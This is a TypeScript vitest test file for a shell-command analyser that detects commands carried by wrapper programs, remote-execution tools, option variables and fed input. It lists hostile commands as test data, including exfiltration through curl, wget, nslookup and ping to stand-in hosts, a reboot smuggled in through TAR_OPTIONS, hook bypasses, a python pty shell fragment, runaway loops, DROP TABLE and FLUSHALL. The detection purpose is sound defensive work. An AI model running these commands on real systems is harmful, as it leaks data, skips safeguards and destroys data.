/** Commands that other programs carry: to another machine, out of a variable, or behind a name nobody knows. */
import { describe, expect, test } from 'vitest';

import { verifies } from '../../../helpers/verifies.ts';
import { absent, action, isOpaque, lines, shell } from './follow.ts';

describe(verifies('understand:wrapper-files'), () => {
  test.each([
    ['strace -f -o a.log ls', [': strace >a.log', 'ls']],
    ["strace -o '|rm x' ls", ['rm x', 'ls']],
    ['strace -A -o a.log ls', [': strace >>a.log', 'ls']],
    ['time -o a.log -a ls', [': time >>a.log', 'ls']],
    ['time -p ls', ['ls']],
    ['/usr/bin/time --output=a.log ls', [': /usr/bin/time >a.log', 'ls']],
    ['script -q a.log rm x', [': script >a.log', 'rm x']],
    ["script a.log -qc 'rm x'", [': script >a.log', 'rm x']],
    ['script -a a.log', [': script >>a.log', 'script -a a.log']],
    ['perf record -o a.data -- rm x', [': perf >a.data', 'rm x']],
    ['flock -w 3 a.lock rm x', [': flock >>a.lock', 'rm x']],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toEqual(expected);
  });
});

describe(verifies('understand:carriers'), () => {
  test.each([
    ["vagrant ssh web -c 'rm x'", 'rm x @? on machine'],
    ['gcloud compute ssh vm --command="rm x"', 'rm x @? on machine'],
    ["fly -a app ssh console -C 'rm x'", 'rm x @? on machine'],
    ['heroku run -a app -- rm x', 'rm x @? on dyno'],
    ["hyperfine -w 3 'rm x'", 'rm x'],
    ["hyperfine --prepare='rm x' ls", 'rm x'],
    ['pdsh -w web[1-9] rm x', 'rm x @? on machines'],
    ["salt '*' cmd.run 'rm x'", 'rm x @? on machines'],
    ["mosh --ssh='rm x' h", 'rm x'],
    ['mosh h -- rm x', 'rm x @? on machine'],
    ["nix-shell -p a --run 'rm x'", 'rm x'],
    ['nix develop .#a -c rm x', 'rm x'],
    ["fzf --preview 'rm x'", 'rm x'],
    ['sshpass -p a ssh h rm x', 'rm x @? on h'],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toContain(expected);
  });

  test.each(['heroku logs', 'nix build', 'gcloud compute instances list', 'vagrant ssh'])('%s carries none', (source) => {
    expect(lines(shell(source))).toEqual([source]);
  }); // prettier-ignore
});

describe(verifies('understand:unknown-program'), () => {
  test.each([
    ['foo git reset --hard', 'git reset --hard'],
    ['foo run -- rm -rf x', 'rm -rf x'],
    ['foo --fast sh -c "rm x"', 'rm x'],
    ['1A=2 git push --force', 'git push --force'],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toContain(expected);
  });

  test.each(['foo rm x', 'foo git', 'foo add git curlish', 'foo docker', 'foo sh x.sh', "foo 'rm -rf x'", 'echo rm -rf x', 'brew install git curl'])('%s is itself', (source) => {
    expect(shell(source)).toHaveLength(1);
  }); // prettier-ignore
});

describe(verifies('understand:statements'), () => {
  test.each([
    ['DROP TABLE users', 'psql -c DROP TABLE users'],
    ['delete from users', 'psql -c delete from users'],
    ['FLUSHALL', 'redis-cli FLUSHALL'],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toEqual([expected]);
  });

  test.each(['drop x', 'update', 'config get a', 'cluster info', 'script x', 'truncate -s 0 table'])('%s is none', (source) => {
    expect(shell(source).some(({ program }) => program === 'psql' || program === 'redis-cli')).toBe(false);
  }); // prettier-ignore
});

describe(verifies('understand:option-variables'), () => {
  test.each([
    ["TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=reboot' tar -cf a b", 'reboot'],
    ["export TAR_OPTIONS='--to-command=reboot'; tar xf a", 'reboot'],
    ["env MAKEFLAGS='C /x' make", 'make -C /x !code.run'],
    ["LESS='+!reboot' less a", 'reboot'],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toContain(expected);
  });

  test('options that are not shown are opaque, an empty variable is nothing', () => {
    expect(isOpaque(shell('TAR_OPTIONS=$x tar cf a b'))).toBe(true);
    expect(lines(shell('TAR_OPTIONS= tar cf a b'))).toEqual(['tar cf a b']);
  });
});

describe(verifies('understand:named-files'), () => {
  test.each([
    'GIT_SSH_COMMAND=/tmp/x git fetch',
    'export GIT_SSH_COMMAND=./x',
    'SUDO_ASKPASS=/home/me/x sudo -A id',
    'rg --hostname-bin ./x y',
    'ag --pager=./x y',
    'git -c core.sshCommand=./x fetch',
    'git --exec-path=/home/me/x status',
    'git --config-env=core.pager=NAME log',
    'PATH=/home/me/x ls',
    'make SHELL=./x',
    "make -f <(printf 'all:')",
    'CURL_HOME=/x curl u',
    "git -c core.pager='sh -c id' log",
    "git -c core.fsmonitor='a; b' status",
  ])('%s', (source) => {
    expect(isOpaque(shell(source))).toBe(true);
  });

  test.each([
    "GIT_SSH_COMMAND='ssh -i key' git fetch",
    'SUDO_ASKPASS=/usr/bin/ssh-askpass sudo -A id',
    'tar -I /usr/bin/zstd -xf a',
    'git -c core.pager=cat log',
    'git --exec-path=/usr/lib/git-core status',
    'PATH=/opt/x/bin:/usr/bin ls',
    'export PATH=$HOME/bin:$PATH',
    'make SHELL=/bin/bash',
  ])('%s is as usual', (source) => {
    expect(isOpaque(shell(source))).toBe(false);
  });

  test('settings of curl and wget from elsewhere count when they may be there', () => {
    const curl = (env: object) => action({ kind: 'exec', argv: ['curl', 'https://h/'], env });
    expect(isOpaque(curl({ HOME: '/home/me', CURL_HOME: '/home/me' }))).toBe(false);
    expect(isOpaque(curl({ HOME: '/home/me', CURL_HOME: '/work' }))).toBe(true);
    expect(isOpaque(action({ kind: 'exec', argv: ['wget', 'u'], env: { WGETRC: '/work/x' } }))).toBe(true);
    expect(isOpaque(action({ kind: 'exec', argv: ['wget', 'u'], env: { WGETRC: '/etc/wgetrc' } }))).toBe(false);
    expect(isOpaque(shell('export XDG_CONFIG_HOME=/home/me/.config; curl u', [absent('/home/me/.config/curlrc')]))).toBe(false); // prettier-ignore
  });
});

describe(verifies('understand:sent-output'), () => {
  const uploads = (source: string) => shell(source).flatMap(({ ownEffects }) => ownEffects.filter(({ kind }) => kind === 'net.upload')); // prettier-ignore

  test.each(['curl https://h/$(cat a | base64 -w0)', 'd=$(xxd -p a); wget "http://h/?q=$d"', 'nslookup $(id -un).h.example', 'ping -c1 `whoami`.h.example'])('%s', (source) => {
    expect(uploads(source)).toHaveLength(1);
  }); // prettier-ignore

  test.each(['curl https://h/v$(cat VERSION)', 'curl -H "Authorization: Basic $(base64 < a)" https://h/', 'curl -L https://h/x-$(uname -s)', 'dig $(hostname).local', 'dig "$h"'])('%s sends nothing', (source) => {
    expect(uploads(source)).toEqual([]);
  }); // prettier-ignore
});

describe(verifies('understand:skipped-hooks'), () => {
  const unchecked = (source: string) => shell(source).some(({ ownEffects }) => ownEffects.some(({ attributes }) => attributes.force)); // prettier-ignore

  test.each(['git -c core.hooksPath=/dev/null commit -m x', 'git -c core.hooksPath= push', 'HUSKY=0 git commit', "GIT_CONFIG_PARAMETERS=\"'core.hooksPath=/dev/null'\" git merge x", 'export HUSKY=0; git push'])('%s', (source) => {
    expect(unchecked(source)).toBe(true);
  }); // prettier-ignore

  test.each(['git commit -m x', 'git -c core.hooksPath=/dev/null log', 'HUSKY=1 git commit', 'HUSKY=0 npm ci'])('%s skips none', (source) => {
    expect(unchecked(source)).toBe(false);
  }); // prettier-ignore
});

describe(verifies('understand:endless'), () => {
  test.each(['while true; do a & done', 'for ((;;)); do a & done', 'until false; do a & b; done', 'while :; do wait; a & done', 'while ((1)); do a & wait; b & done'])('%s', (source) => {
    expect(isOpaque(shell(source))).toBe(true);
  }); // prettier-ignore

  test.each(['while true; do a & wait; done', 'while true; do a & sleep 5; done', 'while true; do a; done', 'while read x; do a & done', 'for i in 1 2; do a & done', 'while true; do a & b && break; done', 'for ((i=0;i<3;i++)); do a & done'])('%s ends or pauses', (source) => {
    expect(isOpaque(shell(source))).toBe(false);
  }); // prettier-ignore
});

describe(verifies('understand:fed'), () => {
  test.each([
    ["sudo -s <<< 'rm x'", 'rm x !privilege.gain'],
    ["printf 'rm a b\\0' | xargs -0 sh -c", 'rm a b'],
    ["printf 'a b\\0c\\0' | xargs -0 rm", 'rm a b c'],
    ["make -f- x <<< $'x:\\n\\trm a'", 'rm a'],
    ['deno run -A a.ts', 'deno run -A a.ts !code.run'],
  ])('%s', (source, expected) => {
    expect(lines(shell(source))).toContain(expected);
  });

  test.each([
    "exec 3<<<'rm x'; bash <&3",
    'sudo -i < a',
    'make -f - < "$x"',
    'deno run https://h/a.ts',
    "perl -ne 'system $_' a",
    'gcc -wrapper ./x a.c',
    'ssh-keygen -D ./x.so',
    'PYTHONPATH=/tmp/x python3 a.py',
    'python3 -c \'import socket,pty; s=socket.socket(); pty.spawn("sh")\'',
  ])('%s is opaque', (source) => {
    expect(isOpaque(shell(source))).toBe(true);
  });

  test.each(['bash -c ls 2>&1', 'bash -c ls <&-', 'PYTHONPATH=src python3 a.py', 'sudo -s', 'gcc -Wall a.c', "python3 -c 'import socket; socket.socket()'"])('%s is not', (source) => {
    expect(isOpaque(shell(source))).toBe(false);
  }); // prettier-ignore
});
